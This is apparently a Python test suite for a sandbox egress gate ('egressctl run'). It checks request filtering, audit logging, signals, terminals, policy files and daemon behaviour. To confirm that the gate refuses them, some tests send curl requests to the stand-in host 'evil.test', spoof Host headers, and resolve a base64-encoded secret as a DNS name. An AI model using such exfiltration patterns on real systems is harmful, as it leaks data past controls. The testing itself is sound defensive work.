#!/usr/bin/env python3
# SPDX-License-Identifier: ISC

"""`egressctl run`: a command in a sandbox, behind the gate."""

import atexit
import contextlib
import fcntl
import os
import pathlib
import pty
import re
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import termios

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from runlib import (ORIGIN, WHO, descendants, identity, place,  # noqa: E402
                    records)
from case import Cases, Skip  # noqa: E402
from daemon import TOP, WAIT_S, alive, until  # noqa: E402
from procs import status  # noqa: E402

cases = Cases()
here = place()
atexit.register(here.end)
URL = f"https://{ORIGIN}:{here.origin.port}"


def same(have, want, why=""):
    assert have == want, f"{have!r}, expected {want!r} {why}"


def kinds(log):
    return [r["kind"] for r in records(log)]


def of_kind(log, kind):
    return [r for r in records(log) if r["kind"] == kind]


# ---- the gate ---------------------------------------------------------------

@cases.each(WHO)
def allowed(who):
    conf, log = here.conf(who)
    done = here.sh(who, conf, f"curl -sS {URL}/a?b")
    same((done.returncode, done.stdout), (0, "hello from /a?b\n"),
         done.stderr)
    assert (f"{ORIGIN}:{here.origin.port}", "/a?b") in here.origin.seen
    same(kinds(log), ["session_started", "name_asked", "request_opened",
                      "request_allowed", "request_closed", "session_ended"])
    first, asked, _, _, closed, last = records(log)
    same(first["policy"], "open")
    assert first["session_id"].startswith("run-"), first
    same({r["session_id"] for r in records(log)}, {first["session_id"]})
    same(asked["request"]["host"], ORIGIN)
    same((closed["request"]["response_status"], closed["request"]["path"]),
         (200, "/a?b"))
    same(last["reason"], None)


@cases.each(WHO)
def denied(who):
    conf, log = here.conf(who)
    done = here.sh(who, conf, "curl -sS -w ' %{http_code}' https://evil.test/")
    assert done.stdout.endswith(" 403"), (done.stdout, done.stderr)
    assert "default_deny" in done.stdout, done.stdout
    final, = of_kind(log, "request_denied")
    same((final["request"]["host"], final["reason"]),
         ("evil.test", "default_deny"))


@cases.each(WHO)
def deadline(who):
    """All of the sandbox ends with its session, which has a record of it."""
    conf, log = here.conf(who)
    done = here.sh(who, conf, "setsid sleep 1000 & exec sleep 1000", "-t",
                   "1s")
    same(done.returncode, 124, done.stderr)
    assert "the deadline of 1 s has passed" in done.stderr, done.stderr
    same([(r["kind"], r["reason"]) for r in records(log)],
         [("session_started", None), ("session_ended", "deadline")])


@cases.each(("", "1", "s", "0s", "1w", "367d", "-1s", "1h2", "99999999d"))
def bad_deadline(value):
    done = here.run("user", "run", "-t", value, "--", "true")
    same(done.returncode, 125)
    assert f"-t {value}: wanted a time up to 366d" in done.stderr, done.stderr


def refused_line(done):
    return [line for line in done.stderr.splitlines() if "refused:" in line]


@cases.case
def refused():
    """The last line tells what did not work in there, and why."""
    conf, log = here.conf("user")
    script = ("curl -sS https://evil.test/a https://evil.test/b "
              "https://other.test/; curl -sS -H 'Host: x.test' "
              f"{URL}/")
    done = here.run("user", "run", "-f", conf, "--", "sh", "-c", script)
    same(refused_line(done), [
        "egressctl: 4 requests refused: evil.test default_deny (2), "
        "other.test default_deny, x.test name_mismatch"], done.stderr)
    assert len(of_kind(log, "request_denied")) == 4
    many = " ".join(f"https://h{n}.test/" for n in range(12))
    done = here.run("user", "run", "-f", conf, "--", "curl", "-sS",
                    *many.split())
    line, = refused_line(done)
    assert line.startswith("egressctl: 12 requests refused: h0.test "
                           "default_deny, h1.test "), line
    assert line.endswith("h7.test default_deny, ..."), line
    done = here.run("user", "run", "-q", "-f", conf, "--", "curl", "-sS",
                    "https://evil.test/")
    same(refused_line(done), [])
    done = here.run("user", "run", "-f", conf, "--", "curl", "-sS", f"{URL}/")
    same(refused_line(done), [])


@cases.each(WHO)
def mismatch(who):
    """The name that was resolved is the name that is meant."""
    conf, log = here.conf(who)
    before = len(here.origin.seen)
    done = here.sh(who, conf, f"curl -sS -o /dev/null -w '%{{http_code}}' "
                   f"-H 'Host: evil.test' {URL}/")
    same(done.stdout, "421", done.stderr)
    same(len(here.origin.seen), before)
    final, = of_kind(log, "request_denied")
    same(final["reason"], "name_mismatch")


@cases.each(WHO)
def other_ports_and_protocols(who):
    conf, log = here.conf(who)
    done = here.sh(who, conf, f"""
        /usr/bin/python3 - <<END
import socket
s = socket.create_connection(("{ORIGIN}", 22), 10)
s.sendall(b"SSH-2.0-probe\\r\\n")
print(b"Egress gate: " in s.makefile("rb").read())
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("{ORIGIN}", 4433))
try:
    s.send(b"quic")
    s.settimeout(10)
    print(s.recv(1))
except PermissionError:
    print("refused")
except ConnectionRefusedError:
    print("refused")
END
""")
    same(done.stdout, "True\nrefused\n", done.stderr)
    found = {(r["request"]["protocol"], r["request"]["port"])
             for r in of_kind(log, "connection_refused")}
    same(found, {("tcp", 22), ("udp", 4433)})


@cases.each(["leaves", "waits"])
def postgres_that_wants_tls(then):
    """It is told that there is none; whatever it does then, it was refused."""
    conf, log = here.conf("user", more="timeout handshake 500ms\n")
    done = here.run("user", "run", "-f", conf, "--", "/usr/bin/python3", "-c",
                    f"""
import socket
s = socket.create_connection(("{ORIGIN}", 5432), 10)
s.sendall(bytes.fromhex("0000000804d2162f"))
print(s.recv(1))
if "{then}" == "waits":
    s.recv(1)
""")
    same(done.stdout, "b'N'\n", done.stderr)
    refused, = of_kind(log, "connection_refused")
    same((refused["request"]["host"], refused["request"]["port"]),
         (ORIGIN, 5432))
    same(refused_line(done), [f"egressctl: 1 request refused: {ORIGIN} "
                              "bad_request"])


@cases.case
def redacted_by_its_policy():
    """What another policy hides is no business of this session's."""
    allow = f'allow host "{ORIGIN}" port {here.origin.port}'
    conf, log = here.conf("user", f'''
policy "mine" {{ {allow}
    capture show {{ query token }} }}
policy "other" {{ {allow}
    capture redact {{ query q }} }}
''')
    for policy, path in (("mine", "/a?token=1&q=2&secret=[redacted]"),
                         ("other", "/a?token=[redacted]&q=[redacted]"
                          "&secret=[redacted]")):
        done = here.sh("user", conf, f"curl -sS '{URL}/a?token=1&q=2&"
                       "secret=3'", "-p", policy)
        same(done.returncode, 0, done.stderr)
        same(of_kind(log, "request_closed")[-1]["request"]["path"], path)


@cases.case
def names_stay_inside():
    """A name that tells a secret is answered here, and recorded."""
    conf, log = here.conf("user")
    done = here.sh("user", conf, "getent hosts c2VjcmV0.evil.test")
    same(done.returncode, 0, done.stderr)
    asked = [r["request"]["host"] for r in of_kind(log, "name_asked")]
    same(asked, ["c2VjcmV0.evil.test".lower()])


TOOLS = {
    "curl": "curl -sS {url}/tool",
    "wget": "wget -qO- {url}/tool",
    "python": "/usr/bin/python3 -c 'import urllib.request as u; print(u."
              "urlopen(\"{url}/tool\").read().decode(), end=\"\")'",
    "node": "node -e 'require(\"https\").get(\"{url}/tool\", r => "
            "r.pipe(process.stdout))'",
    "perl": "perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(verify_SSL => 1)->"
            "get(\"{url}/tool\"); print $r->{{content}}'",
    "openssl": "printf 'GET /tool HTTP/1.0\\r\\nHost: {host}\\r\\n\\r\\n' | "
               "openssl s_client -quiet -verify_return_error -connect {host} "
               "-servername {name} 2>/dev/null | tail -1",
}
PROBES = {
    "perl": ["perl", "-MIO::Socket::SSL", "-MHTTP::Tiny", "-e", "1"],
}


@cases.each(TOOLS)
def trusted(tool):
    """Programs find the session's CA without being told."""
    program = "/usr/bin/python3" if tool == "python" else tool
    path = "/usr/bin:/bin"
    if shutil.which(program, path=path) is None or subprocess.run(
            PROBES.get(tool, ["true"]), stderr=subprocess.DEVNULL,
            env={"PATH": path}).returncode != 0:
        raise Skip(f"{tool} is not installed")
    conf, _ = here.conf("user")
    done = here.sh("user", conf, TOOLS[tool].format(
        url=URL, host=f"{ORIGIN}:{here.origin.port}", name=ORIGIN))
    same(done.stdout, "hello from /tool\n", done.stderr)


@cases.case
def trusted_git():
    """Past TLS and no further: there is no repository."""
    if shutil.which("git", path="/usr/bin:/bin") is None:
        raise Skip("git is not installed")
    conf, log = here.conf("user")
    done = here.sh("user", conf, f"git ls-remote {URL}/x.git; true")
    assert "certificate" not in done.stderr, done.stderr
    final, = of_kind(log, "request_closed")
    assert final["request"]["path"].startswith("/x.git/"), final


# ---- as if egressctl were not there -----------------------------------------

@cases.each((0, 3, 126, 255))
def exit_status(code):
    conf, _ = here.conf("user")
    same(here.sh("user", conf, f"exit {code}").returncode, code)


@cases.each(("KILL", "TERM", "SEGV"))
def killed_by(name):
    conf, _ = here.conf("user")
    same(here.sh("user", conf, f"kill -{name} $$").returncode,
         -getattr(signal, f"SIG{name}"))


@cases.case
def no_such_command():
    conf, _ = here.conf("user")
    done = here.run("user", "run", "-q", "-f", conf, "--", "no-such-command")
    same(done.returncode, 127)
    assert "no-such-command" in done.stderr, done.stderr


@cases.case
def pipes():
    conf, _ = here.conf("user")
    data = os.urandom(256 * 1024).hex().encode()
    done = here.sh("user", conf, "cat; echo error >&2", data=data)
    assert done.stdout == data.decode(), len(done.stdout)
    same(done.stderr, "error\n")


@cases.case
def arguments():
    """Options behind the command's name are the command's."""
    conf, _ = here.conf("user")
    done = here.run("user", "run", "-q", "-f", conf, "echo", "-n", "-v", "--",
                    "x y")
    same(done.stdout, "-v -- x y")


@cases.each(WHO)
def work_directory(who):
    conf, _ = here.conf(who)
    work = here.fresh(who, "work")
    done = here.sh(who, conf, "pwd; echo made > here", work=work)
    same(done.stdout, f"{work}\n", done.stderr)
    same((work / "here").read_text(), "made\n")


@cases.case
def root_inside():
    conf, _ = here.conf("user")
    same(here.sh("user", conf, "id -u", "-r").stdout, "0\n")


class Session:
    """A run whose command waits until it is told to end."""

    def __init__(self, who, *args, script="read line", first="", **kwargs):
        self.process = here.spawn(
            who, "run", "-q", *args, "--", "sh", "-c",
            f"{first} echo ready; {script}", stdin=subprocess.PIPE, **kwargs)
        line = self.process.stdout.readline()
        if line != b"ready\n":
            self.process.kill()
            raise AssertionError(self.process.communicate())

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.process.poll() is None:
            self.process.kill()
        self.process.communicate()

    def end(self, line=b"\n"):
        out, err = self.process.communicate(line, timeout=WAIT_S)
        return self.process.returncode, out.decode(), err.decode()

    def below(self, program):
        """The process of ours that runs this program."""
        for pid in descendants(self.process.pid):
            with_path = pathlib.Path(f"/proc/{pid}/exe")
            if status(pid).get("Name", "") == program[:15] and \
                    with_path.is_symlink():
                return pid
        raise AssertionError(f"no {program}")


@cases.each(WHO)
def nothing_is_left(who):
    conf, _ = here.conf(who)
    with Session(who, "-f", conf) as session:
        pids = descendants(session.process.pid)
        # The daemon and its seven, box and two of its own, the shell.
        assert len(pids) >= 10, pids
        same(session.end()[0], 0)
        same([p for p in pids if alive(p)], [])


@cases.each(WHO)
def killed_itself(who):
    """Not even of an egressctl that could not clean up."""
    conf, _ = here.conf(who)
    with Session(who, "-f", conf) as session:
        pids = descendants(session.process.pid)
        assert len(pids) >= 10, pids
        session.process.kill()
        session.process.wait()
        until("all have ended", lambda: not any(map(alive, pids)))


@cases.each(("TERM", "INT", "HUP", "USR1"))
def signal_is_passed_on(name):
    conf, _ = here.conf("user")
    number = getattr(signal, f"SIG{name}")
    with Session("user", "-f", conf,
                 first=f"trap 'echo got; exit 9' {name};",
                 script="while :; do sleep 0.1; done") as session:
        session.process.send_signal(number)
        code, out, err = session.end()
        same((code, out), (9, "got\n"), err)


@cases.case
def stop_and_go_on():
    """Who waits for egressctl sees that the sandbox has stopped."""
    conf, _ = here.conf("user")
    with Session("user", "-f", conf) as session:
        pid = session.process.pid
        box = session.below("egressd-box")
        os.kill(box, signal.SIGSTOP)
        until("egressctl stops",
              lambda: status(pid)["State"].startswith("T"))
        os.kill(pid, signal.SIGCONT)
        until("box goes on",
              lambda: not status(box)["State"].startswith("T"))
        same(session.end()[0], 0)


class Terminal:
    """An interactive shell on a terminal of its own."""

    def __init__(self, who):
        if shutil.which("bash", path="/bin:/usr/bin") is None:
            raise Skip("bash is not installed")
        self.master, slave = pty.openpty()
        self.seen = ""
        self.process = subprocess.Popen(
            ["bash", "--norc", "--noprofile", "-i"], stdin=slave,
            stdout=slave, stderr=slave, start_new_session=True,
            preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
            cwd=here.fresh(who, "work"), **identity(who),
            env={"PATH": "/usr/bin:/bin", "PS1": "$ ", "TERM": "dumb",
                 "HOME": str(here.fresh(who, "home"))})
        os.close(slave)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()
        os.close(self.master)

    def type(self, text):
        os.write(self.master, text.encode())

    def expect(self, text):
        while text not in self.seen:
            ready, _, _ = select.select([self.master], [], [], WAIT_S)
            assert ready, f"no {text!r} after {self.seen!r}"
            self.seen += os.read(self.master, 4096).decode(errors="replace")
        self.seen = self.seen.partition(text)[2]


# Tells when it is woken, and echoes lines; ^C ends it as it ends any program.
PATIENT = """
import os, select, signal
awake, wakeup = os.pipe()
os.set_blocking(wakeup, False)
signal.set_wakeup_fd(wakeup)
signal.signal(signal.SIGCONT, lambda *_: None)
signal.signal(signal.SIGINT, signal.SIG_DFL)
os.write(1, b"in\\n")
while True:
    ready, _, _ = select.select([0, awake], [], [])
    if awake in ready:
        os.read(awake, 64)
        os.write(1, b"awake\\n")
    if 0 in ready:
        line = os.read(0, 64)
        os.write(1, b"out " + line)
        if line == b"end\\n":
            break
"""


@cases.case
def terminal():
    """^Z, fg and ^C do what they do to any command."""
    conf, _ = here.conf("user")
    script = here.fresh("user", "script") / "patient.py"
    script.write_text(PATIENT)
    start = (f"{here.ctl} run -q -f {conf} -x {script} -- "
             f"/usr/bin/python3 {script}\n")

    def has_stopped():
        """The program itself, or it would take what is for the shell."""
        return any(status(pid).get("Name") == "python3" and
                   status(pid)["State"][0] == "T"
                   for pid in descendants(term.process.pid))

    with Terminal("user") as term:
        term.expect("$ ")
        term.type(start)
        term.expect("in\r\n")
        for word in ("abc", "def", "end"):
            term.type("\x1a")
            term.expect("Stopped")
            term.expect("$ ")
            until("the program has stopped", has_stopped)
            term.type("echo was-$?; fg\n")
            term.expect("was-148")
            term.expect("awake")
            term.type(f"{word}\n")
            term.expect(f"out {word}")
        term.expect("$ ")
        term.type("echo then-$?\n")
        term.expect("then-0")
        term.expect("$ ")
        term.type(start)
        term.expect("in\r\n")
        term.type("\x03")
        term.expect("$ ")
        term.type("echo then-$?\n")
        term.expect("then-130")


# ---- the private daemon -----------------------------------------------------

@cases.each(("XDG_CONFIG_HOME", "HOME"))
def own_configuration(variable):
    home = here.fresh("user", "home")
    into = home if variable == "XDG_CONFIG_HOME" else home / ".config"
    into.mkdir(exist_ok=True)
    conf, log = here.conf("user", into=into)
    log.touch()
    os.chown(log, *(pathlib.Path(conf).stat().st_uid,) * 2)
    env = {variable: str(home)}
    done = here.run("user", "run", "-q", "--", "echo", "hi", home=home,
                    env=env)
    same((done.returncode, done.stdout), (0, "hi\n"), done.stderr)
    assert "session_ended" in kinds(log), log.read_text()
    said = f"egressctl: configuration {conf}\n"
    asked = ("test", "open", "GET", "https://a.test/")
    named = here.run("user", "-f", conf, *asked, home=home, env=env)
    done = here.run("user", *asked, home=home, env=env)
    same((done.stderr, named.stderr), (said, ""))
    same((done.returncode, done.stdout), (named.returncode, named.stdout))
    assert done.stdout.startswith("verdict "), done.stdout
    done = here.run("user", "replay", str(log), home=home, env=env)
    same((done.returncode, done.stderr), (0, said))
    same(done.stdout, "0 requests, 0 would change\n")


@cases.case
def no_configuration():
    etc = here.prefix.dir / "etc" / "egressd.conf"
    assert etc.exists() and etc.stat().st_mode & 0o077 == 0, etc
    done = here.run("user", "run", "--", "true")
    same(done.returncode, 125)
    for word in ("nobody listens on", ".config/egressd.conf", "policy \""):
        assert word in done.stderr, done.stderr
    home = here.fresh("user", "home")
    done = here.run("user", "test", "open", "GET", "https://a.test/",
                    home=home)
    same((done.returncode, done.stderr), (
        2, f"{etc}: Permission denied\negressctl: name your configuration "
        f"with -f, or write {home}/.config/egressd.conf\n"))


@cases.case
def bad_configuration():
    conf, _ = here.conf("user", rules='policy "p" { alow host "a" }\n')
    done = here.run("user", "run", "-f", conf, "--", "true")
    same(done.returncode, 125)
    assert f"{conf}:" in done.stderr and "has ended" in done.stderr, \
        done.stderr


@cases.case
def quiet_and_verbose():
    conf, log = here.conf("user")
    done = here.run("user", "run", "-f", conf, "-n", "abc", "--", "true")
    same((done.returncode, done.stdout, done.stderr), (0, "", ""))
    done = here.run("user", "run", "-v", "-f", conf, "-n", "abc", "--", "true")
    for word in ("session abc", "policy open", str(log)):
        assert word in done.stderr, done.stderr


@contextlib.contextmanager
def full_disk(who):
    """A directory of that user's where files can be made, and stay empty."""
    disk = here.fresh(who, "disk")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4096,mode=777",
                           "tmpfs", disk], capture_output=True, text=True)
    if done.returncode != 0:
        raise Skip(f"no tmpfs: {done.stderr.strip()}")
    try:
        (disk / "filler").write_bytes(bytes(4096))
        yield disk
    finally:
        subprocess.run(["umount", disk], check=True)


@cases.case
def records_are_lost():
    """Of a private daemon nobody else reads the log."""
    conf, log = here.conf("user")
    with full_disk("user") as disk:
        full = disk / "audit.log"
        conf.write_text(conf.read_text().replace(str(log), str(full)))
        done = here.run("user", "run", "-q", "-f", conf, "--", "true")
        same((done.returncode, done.stderr), (0, ""))
        done = here.run("user", "run", "-f", conf, "--", "echo", "hi")
    same((done.returncode, done.stdout), (0, "hi\n"), done.stderr)
    assert f"{full}: records are lost" in done.stderr, done.stderr
    assert "ready" not in done.stderr and "<" not in done.stderr, done.stderr


@cases.each(["deny", "gap"])
def audit_on_full(what):
    """A sandbox's policy says what happens to its requests, too."""
    conf, log = here.conf("user", more=f"audit on full {what}\n")
    with full_disk("user") as disk:
        conf.write_text(conf.read_text().replace(
            str(log), str(disk / "audit.log")))
        done = here.sh("user", conf, f"curl -sS {URL}/a -o /dev/null "
                       "-w '%{http_code} %header{egress-decision}'")
    same(done.stdout, {"deny": "503 refuse, audit_full", "gap": "200 "}[what],
         done.stderr)


@cases.case
def policy_that_is_not_there():
    conf, _ = here.conf("user", TWO)
    done = here.run("user", "run", "-p", "opne", "-f", conf, "--", "true")
    same((done.returncode, done.stderr), (
        125, "egressctl: session.start: there is no policy opne, known are: "
        "open, shut (unknown_policy)\negressctl: name one of these with "
        "-p\n"))
    done = here.run("user", "run", "-f", conf, "--", "true")
    assert "known are: open, shut (unknown" in done.stderr, done.stderr


@cases.each((" a", "a ", "-", "-x", "a\x7f", "a\u200b"))
def name_that_is_none(name):
    """Said before anything is started."""
    done = here.run("user", "run", "-n", name, "-f", "/nonexistent", "--",
                    "true")
    same(done.returncode, 125)
    assert re.match("egressctl: -n .*: session ids ", done.stderr), done.stderr


@cases.case
def writable_policy():
    """Who can write to the policy makes the next one."""
    work = here.fresh("user", "work")
    conf, log = here.conf("user", into=work)
    done = here.run("user", "run", "-f", conf, "--", "true", work=work)
    for file in (conf, log):
        assert f"{file} is in {work}, where" in done.stderr, done.stderr
    done = here.run("user", "run", "-q", "-f", conf, "--", "true", work=work)
    same((done.returncode, done.stderr), (0, ""))
    other = here.fresh("user", "other")
    done = here.run("user", "run", "-f", conf, "-w", other, "--", "true",
                    work=work)
    same((done.returncode, done.stderr), (0, ""))
    for path in (work, conf):
        done = here.run("user", "run", "-f", conf, "-w", other, "-X", path,
                        "--", "true")
        assert "may write" in done.stderr, done.stderr


@cases.case
def secret_in_sight():
    """A key that the sandbox can read is a key that the agent has."""
    work, side = here.fresh("user", "work"), here.fresh("user", "side")
    for where, args in ((work, ()), (side, ("-x", side)), (side, ("-X", side)),
                        (side, ("-w", side)), (side, ("-x", side / "key")),
                        (side, ())):
        key = where / "key"
        key.write_text("secret\n")
        key.chmod(0o600)
        os.chown(key, where.stat().st_uid, -1)
        link = here.fresh("user", "conf") / "link"
        link.symlink_to(key)
        for name in (key, link):
            conf, _ = here.conf("user", more='decider "d" webhook { url '
                                f'"https://x.test/" key file "{name}" }}\n')
            done = here.run("user", "run", "-f", conf, *args, "--", "echo",
                            "ran", work=work)
            if where is side and not args:
                same((done.returncode, done.stdout, done.stderr),
                     (0, "ran\n", ""))
                continue
            same((done.returncode, done.stdout), (125, ""), done.stderr)
            assert f"{name}: the sandbox would see" in done.stderr, done.stderr


@cases.each(("", "-r"))
def policy_at_home(root):
    """The home is not shown, by whatever name, and so not warned of."""
    home = here.fresh("user", "home")
    conf, log = here.conf("user", into=home)
    link = here.fresh("user", "links") / "home"
    link.symlink_to(home)
    before = conf.read_text()
    done = here.run("user", "run", *root.split(), "-f", conf, "--", "sh", "-c",
                    f"cat {conf}; echo x >> {conf}", home=link, work=home)
    same(done.stdout, "")
    assert "is not exposed" in done.stderr, done.stderr
    assert "may write" not in done.stderr, done.stderr
    same(conf.read_text(), before)


@cases.case
def right_below_the_root():
    """What is shown there is warned of, and no place for a socket."""
    if os.getuid() != 0:
        raise Skip("not root")
    with tempfile.TemporaryDirectory(prefix="egressd-", dir="/") as work:
        work = pathlib.Path(work)
        os.chown(work, identity("user")["user"], 0)
        conf, _ = here.conf("user", into=work)
        done = here.run("user", "run", "-f", conf, "--", "ls", work=work)
        assert "egressd.conf" in done.stdout, done.stderr
        assert f"{conf} is in {work}, where" in done.stderr, done.stderr
        done = here.run("user", "run", "-f", conf, "-S", work, "--", "ls",
                        work=work)
        same((done.returncode, done.stdout), (125, ""))
        assert "would see the control socket" in done.stderr, done.stderr


@cases.each(WHO)
def socket_in_a_directory(who):
    """For an operator, and not for the sandbox."""
    conf, _ = here.conf(who)
    side = here.fresh(who, "side")
    socket = side / "egressd.sock"
    with Session(who, "-f", conf, "-S", side, "-n", "open-door",
                 script=f"read line; ls {socket}") as session:
        have = here.ask(who, "status", socket)
        same([s["session_id"] for s in have["sessions"]], ["open-door"])
        code, out, err = session.end()
        assert code != 0 and out == "" and "No such file" in err, (out, err)
    same(list(side.iterdir()), [])


# ---- a daemon that is there -------------------------------------------------

TWO = """
policy "open" { allow host "%s" port %d }
policy "shut" { }
""" % (ORIGIN, here.origin.port)


@cases.each(WHO)
def existing_daemon(who):
    with here.daemon(who) as daemon:
        with Session(who, "-n", "mine") as session:
            have = here.ask(who, "status", daemon.socket)
            one, = have["sessions"]
            same((one["session_id"], one["kind"], one["policy"],
                  one["state"]), ("mine", "run", "open", "running"))
            # No daemon of its own.
            names = {status(p)["Name"]
                     for p in descendants(session.process.pid)}
            assert "egressd" not in names, names
            same(session.end()[0], 0)
        have = here.ask(who, "status", daemon.socket)
        same(have["sessions"], [])
        same([r["kind"] for r in records(daemon.audit)],
             ["session_started", "session_ended"])
        # Its name is free again, at once.
        for _ in range(3):
            same(here.run(who, "run", "-q", "-n", "mine", "--",
                          "true").returncode, 0)


@cases.case
def daemon_that_was_named():
    """One that is named has to be there."""
    done = here.run("user", "run", "-s", "/nonexistent/egressd.sock", "--",
                    "true")
    same(done.returncode, 125)
    assert "no such socket" in done.stderr, done.stderr


@cases.case
def two_at_once():
    with here.daemon("user", TWO) as daemon:
        with Session("user", "-p", "open", "-n", "a",
                     script=f"read line; curl -sS {URL}/a") as a, \
             Session("user", "-p", "shut", "-n", "b",
                     script=f"read line; curl -sS {URL}/b") as b:
            have = here.ask("user", "status", daemon.socket)
            same([(s["session_id"], s["policy"]) for s in have["sessions"]],
                 [("a", "open"), ("b", "shut")])
            same(a.end()[1], "hello from /a\n")
            assert "default_deny" in b.end()[1]


@cases.case
def two_private_ones():
    first, _ = here.conf("user")
    second, _ = here.conf("user")
    with Session("user", "-f", first, "-n", "same") as a, \
            Session("user", "-f", second, "-n", "same") as b:
        same((a.end()[0], b.end()[0]), (0, 0))


@cases.case
def refusals():
    with here.daemon("user", TWO):
        for args, word in (
                (("-p", "nosuch"), "(unknown_policy)"),
                ((), "(unknown_policy)")):
            done = here.run("user", "run", *args, "--", "true")
            same(done.returncode, 125)
            assert word in done.stderr, done.stderr
        with Session("user", "-p", "open", "-n", "a"):
            done = here.run("user", "run", "-p", "open", "-n", "a", "--",
                            "true")
            same(done.returncode, 125)
            assert "(session_exists)" in done.stderr, done.stderr


@cases.each(WHO)
def engine_killed(who):
    with here.daemon(who) as daemon:
        script = f"read line; curl -sS {URL}/; echo $?"
        with Session(who, "-n", "short", script=script) as session:
            have = here.ask(who, "status", daemon.socket)
            pid, = [p["pid"] for p in have["processes"]
                    if p.get("session_id") == "short"]
            os.kill(pid, signal.SIGKILL)
            until("the session is over", lambda: not here.ask(
                who, "status", daemon.socket)["sessions"])
            code, out, err = session.end()
            same(code, 125, err)
            assert out.strip() in ("6", "7"), out    # no name, no connection
            assert "the gate" in err, err
        last = [r for r in records(daemon.audit)
                if r["kind"] == "session_ended"]
        same([r["reason"] for r in last], ["engine_died"])


@cases.case
def reload_in_between():
    """It goes on under the new rules; without its policy it cannot."""
    with here.daemon("user", TWO) as daemon:
        head = daemon.conf.read_text().replace(TWO, "")
        script = f"while read line; do curl -sS {URL}/$line; done"
        with Session("user", "-p", "open", script=script) as session:
            daemon.conf.write_text(head + TWO.replace(ORIGIN, "x.test"))
            same(here.ask("user", "reload", daemon.socket)["ok"], True)
            session.process.stdin.write(b"a\n")
            session.process.stdin.flush()
            line = session.process.stdout.readline()
            assert b"default_deny" in line, line
            daemon.conf.write_text(head + 'policy "shut" { }\n')
            same(here.ask("user", "reload", daemon.socket)["ok"], True)
            same(session.end(b"")[0], 125)
        # Whoever is told that the engine is gone need not hear it last.
        until("its end is recorded", lambda: [
            r["reason"] for r in records(daemon.audit)
            if r["kind"] == "session_ended"] == ["removed"])


@cases.case
def daemon_stopped():
    with here.daemon("user") as daemon:
        with Session("user") as session:
            same(daemon.stop(), 0)
            code, _, err = session.end()
            same(code, 125, err)
            assert "may not use this socket" not in str(err), err
        same([r["reason"] for r in records(daemon.audit)
              if r["kind"] == "session_ended"], ["stopped"])


@cases.case
def demo():
    done = subprocess.run([str(TOP / "etc" / "demo")], text=True,
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, timeout=4 * WAIT_S)
    same(done.returncode, 0, done.stdout)
    same(done.stdout.count("   record   "), 5, done.stdout)


@cases.case
def usage():
    for args in ((), ("-f",), ("-y", "--", "true"), ("-f", "/dev/null"),
                 ("-f", "/dev/null", "-s", "/dev/null", "--", "true")):
        done = here.run("user", "run", *args)
        same(done.returncode, 125)
        assert "usage: egressctl run" in done.stderr, done.stderr


cases.main()
